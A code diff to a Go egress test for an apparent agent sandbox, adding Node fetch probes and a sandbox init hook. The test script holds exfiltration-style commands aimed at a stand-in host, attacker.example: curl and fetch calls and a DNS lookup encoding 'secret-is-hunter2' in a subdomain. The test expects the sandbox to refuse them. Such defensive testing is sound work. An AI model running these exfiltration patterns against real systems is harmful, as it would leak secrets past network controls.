@@ -20,6 +20,8 @@ import (
 	"time"
 
 	"golang.org/x/sys/unix"
+
+	"github.com/baton-agent/baton/internal/sandbox"
 )
 
 // boxVar carries a boxSpec to the test binary started as a box: it then
@@ -39,6 +41,7 @@ type testSpec struct {
 const queryVar = "BATON_EGRESS_TEST_QUERY"
 
 func TestMain(m *testing.M) {
+	sandbox.Main(Hooks()) // the benchmarks start real boxes: this binary is their init
 	if spec := os.Getenv(boxVar); spec != "" {
 		os.Exit(boxMain(spec))
 	}
@@ -245,6 +248,11 @@ try api curl -sS -m 10 http://%[2]s/
 try "api by proxy" curl -sS -m 10 --noproxy '' -o /dev/null -w '%%{http_code}' http://%[2]s/
 try "registry by name" curl -sS -m 10 --noproxy '*' http://registry.example:%[3]d/
 try "registry by proxy" curl -sS -m 10 http://registry.example:%[3]d/
+if command -v node >/dev/null; then
+  # Node's fetch ignores the proxy variables: it finds the name by the stub.
+  try "node by name" node -e "fetch('http://registry.example:%[3]d/').then(r => r.text()).then(t => console.log(t))"
+  try "node attacker" node -e "fetch('http://attacker.example:%[4]d/').then(r => r.text()).then(t => console.log(t))"
+fi
 try "attacker by proxy" curl -sS -m 10 -o /dev/null -w '%%{http_code}' http://attacker.example:%[4]d/
 try "attacker by name" curl -sS -m 10 --noproxy '*' http://attacker.example:%[4]d/
 try "attacker dns" getent hosts secret-is-hunter2.attacker.example
@@ -256,6 +264,13 @@ try "query the machine's resolver" env %[6]s="%[8]s exfil-by-loopback.attacker.e
 	out, code := b.run(t, script)
 	if code != 0 {
 		t.Fatalf("the box's script exited %d:\n%s", code, out)
+	}
+	if _, err := exec.LookPath("node"); err == nil {
+		for _, want := range []string{"node by name: registry\n", "node attacker: refused\n"} {
+			if !strings.Contains(out, want) {
+				t.Errorf("in the box: no %q in\n%s", want, out)
+			}
+		}
 	}
 	for _, want := range []string{
 		"model: model\n", "model by proxy: model\n",
